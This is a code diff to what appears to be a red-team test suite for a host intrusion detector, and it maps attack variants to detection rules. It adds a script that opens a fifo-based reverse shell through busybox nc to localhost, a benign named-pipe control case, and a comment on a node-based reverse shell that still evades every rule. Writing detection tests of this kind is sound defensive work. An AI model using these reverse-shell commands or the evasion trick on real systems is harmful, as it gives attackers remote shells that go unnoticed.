@@ -191,6 +191,13 @@ def rs_fifo_busybox_nc(c: Ctx) -> None:
            f"{c.port} >{f}; rm -f {f}")
 
 
+def rs_fifo_nc_script(c: Ctx) -> None:
+    # the same from a script, the fifo under an innocent name
+    f = c.scratch / ".lock"
+    c.script("rs6.sh", f"mkfifo {f}\ncat {f} | /bin/sh -i 2>&1 | busybox nc 127.0.0.1 "
+             f"{c.port} >{f}\nrm -f {f}\n")
+
+
 def rs_busybox_nc_e(c: Ctx) -> None:
     c.run(["busybox", "nc", "127.0.0.1", str(c.port), "-e", "/bin/sh"])
 
@@ -725,6 +732,16 @@ def bn_mmap_own(c: Ctx) -> None:
     c.run(["/bin/true"])
 
 
+def bn_fifo_plumbing(c: Ctx) -> None:
+    # named pipes used locally: a logger reading one, a shell script fed from a file
+    d = c.scratch / "fifo"
+    d.mkdir()
+    (d / "job.sh").write_text("true\n")
+    c.script("fifo.sh", f"mkfifo {d}/p\ntee {d}/log < {d}/p >/dev/null &\n"
+             f"echo hello > {d}/p\nwait\nsh < {d}/job.sh\nbusybox cat {d}/log > {d}/copy\n")
+    shutil.rmtree(d)
+
+
 def bn_links_and_removals(c: Ctx) -> None:
     # links to ordinary files, a script removing a file it made (not itself)
     d = c.scratch / "links"
@@ -783,7 +800,8 @@ def _v(f: Callable[[Ctx], None], *rules: str) -> Variant:
 VARIANTS: dict[str, Variant] = {
     "rs_devtcp_script": _v(rs_devtcp_script,
                            "reverse_shell_socket_stdio", "shell_network_connection"),
-    "rs_fifo_busybox_nc": _v(rs_fifo_busybox_nc, "reverse_shell_command_line"),
+    "rs_fifo_busybox_nc": _v(rs_fifo_busybox_nc, "reverse_shell_command_line",
+                             "reverse_shell_fifo"),
     "rs_busybox_nc_e": _v(rs_busybox_nc_e, "reverse_shell_command_line",
                           "reverse_shell_sequence", "reverse_shell_socket_stdio"),
     "rs_python_b64": _v(rs_python_b64, "reverse_shell_sequence", "reverse_shell_socket_stdio"),
@@ -791,6 +809,8 @@ VARIANTS: dict[str, Variant] = {
     "rs_perl_io_system": _v(rs_perl_io_system,
                             "reverse_shell_command_line", "reverse_shell_socket_stdio"),
     "rs_awk_inet": _v(rs_awk_inet, "reverse_shell_command_line"),
+    "rs_openssl_script": _v(rs_openssl_script, "reverse_shell_fifo", "reverse_shell_fifo_stdin"),
+    "rs_fifo_nc_script": _v(rs_fifo_nc_script, "reverse_shell_fifo"),
     "rs_renamed_shell_fd0": _v(rs_renamed_shell_fd0,
                                "reverse_shell_socket_stdio", "exec_from_tmp_shm"),
     "inj_ptrace_poke_py": _v(inj_ptrace_poke_py, "ptrace_attach", "ptrace_poke"),
@@ -853,6 +873,7 @@ VARIANTS: dict[str, Variant] = {
     "bn_script_pipe": _v(bn_script_pipe),
     "bn_mmap_own": _v(bn_mmap_own),
     "bn_links_and_removals": _v(bn_links_and_removals),
+    "bn_fifo_plumbing": _v(bn_fifo_plumbing),
     "bn_credential_probe": _v(bn_credential_probe),
     "bn_python_urlopen": _v(bn_python_urlopen),
     "bn_busybox_few": _v(bn_busybox_few),
@@ -862,12 +883,11 @@ VARIANTS: dict[str, Variant] = {
 }
 
 
-#: variants no rule catches yet (docs/detection.md, "Tested variants"): the shell's stdio
-#: are pipes or a fifo and the connection is made by a sibling or by node itself, so no
-#: process has a socket on 0-2 and no command line shows the technique. Run them with
-#: ``redteam.py --ctx CTX --log LOG rs_openssl_script`` to see; not asserted by the tests.
+#: variants no rule catches yet (docs/detection.md, "Tested variants"): node connects
+#: itself and hands the shell socketpairs, so no process has an inet socket or a fifo on
+#: 0-2 and no command line shows the technique. Run them with ``redteam.py --ctx CTX
+#: --log LOG rs_node_script`` to see; not asserted by the tests.
 KNOWN_MISSES: dict[str, Variant] = {
-    "rs_openssl_script": _v(rs_openssl_script),
     "rs_node_script": _v(rs_node_script),
 }
 
